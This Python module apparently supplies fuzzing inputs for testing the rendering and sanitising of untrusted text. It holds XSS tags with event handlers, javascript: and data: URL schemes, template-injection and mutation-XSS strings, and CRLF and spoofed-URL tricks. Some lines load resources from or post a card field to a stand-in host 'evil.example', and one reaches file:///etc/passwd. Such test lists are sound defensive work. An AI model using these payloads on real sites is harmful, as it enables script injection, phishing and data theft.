"""Texts that try to become more than text: markup, links, Markdown, templates, events, hidden characters."""

FOREIGN = "https://evil.example"

_TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "iframe",
    "marquee",
]
_HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"]
_SCHEMES = [
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "\x01javascript:ran()",
    "&#106;avascript:ran()",
    "data:text/html,<script>ran()</script>",
    "data:image/svg+xml,<svg onload=ran()>",
    "vbscript:ran()",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "ftp://evil.example/x",
]
_FORMS = ["{}", "[click]({})", "![x]({})", "<{}>", "[x]: {}"]
_TURNING = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e"
    "\u200f\u061c\u200b\u200c\u200d\ufeff\u00ad\u2028\u2029"
)
_OTHERS = [
    "<script>ran()</script>",
    f"<script src={FOREIGN}/x.js></script>",
    f"<img src={FOREIGN}/pixel.png>",
    f"<link rel=stylesheet href={FOREIGN}/x.css>",
    f"<style>@import '{FOREIGN}/x.css';*{{display:none}}</style>",
    f"<object data={FOREIGN}/x></object>",
    f"<embed src={FOREIGN}/x>",
    f"<base href={FOREIGN}/>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    f"<form action={FOREIGN}><input name=card></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
    "<template><img src=x onerror=ran()></template>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=ran()>#x'>",
    "<a href=javascript:ran()>click</a>",
    "<a xlink:href=javascript:ran()>click</a>",
    "</div></section><script>ran()</script>",
    "'\"><img src=x onerror=ran()>",
    "`${ran()}`",
    "${ran()}",
    "{{ran()}}",
    "{{constructor.constructor('ran()')()}}",
    "<!--?lit$1234$-->",
    "lit$1234567890$",
    "?lit$x$=ran()",
    "<?xml version='1.0'?><x/>",
    "<![CDATA[<img src=x onerror=ran()>]]>",
    "%3Cscript%3Eran()%3C/script%3E",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "**bold** _soft_ `code` ~~gone~~ # heading",
    f"[Your bank]({FOREIGN}/login)",
    f"[![x]({FOREIGN}/x.png)]({FOREIGN})",
    f"| a | b |\n|---|---|\n| ![x]({FOREIGN}/y.png) | x |",
    "```html\n<script>ran()</script>\n```",
    "data: x\n\nevent: turn\ndata: {}",
    "id: 9\nretry: 1",
    "https://shop.example@evil.example/",
    "https://shop.example\\@evil.example/",
    "https://xn--80ak6aa92e.com/",
    "https://аррӏе.com/",
    "https://shop.example/%0d%0aSet-Cookie:x",
    "https://user:pass@shop.example/",
    "http://[::1]/x",
    "https://",
    "https://<script>ran()</script>",
    'https://shop.example/"onmouseover="ran()',
    "https://shop.example/'onclick='ran()",
    "https://shop.example/\u202egpj.exe",
    "a" * 3000,
    "Z̸̡̢̧" * 200,
    "\U000e0041\U000e0042 hidden tags",
    "__proto__",
    "constructor",
    "taken_over",
]
PAYLOADS = tuple(
    dict.fromkeys(
        [f"<{tag} {handler}=ran()>" for tag in _TAGS[:7] for handler in _HANDLERS]
        + [form.format(scheme) for scheme in _SCHEMES for form in _FORMS]
        + [f"pay{char}ment https://shop.example/{char}a" for char in _TURNING]
        + _OTHERS
    )
)
